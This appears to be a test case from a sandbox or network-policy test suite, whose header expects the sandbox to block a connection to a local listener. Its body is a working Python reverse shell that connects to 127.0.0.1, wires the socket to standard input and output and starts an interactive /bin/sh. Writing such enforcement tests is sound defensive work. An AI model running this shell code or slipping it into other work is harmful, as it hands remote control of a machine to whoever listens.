#!/usr/bin/env python3
# tries: connect back to whoever waits and hand them a shell on the connection
# must: never arrive there; no shell starts
# run: python3 {file} {port}
# expect: exit=1 status=exited verdict=violated rule=network-connect/deny network=127.0.0.1:{port} listener=silent
# control: listener=reached

import os
import socket
import sys

connection = socket.socket()
try:
    connection.connect(("127.0.0.1", int(sys.argv[1])))
except OSError as error:
    sys.exit(f"no connection: {error}")
for descriptor in (0, 1, 2):
    os.dup2(connection.fileno(), descriptor)
os.execv("/bin/sh", ["sh", "-i"])
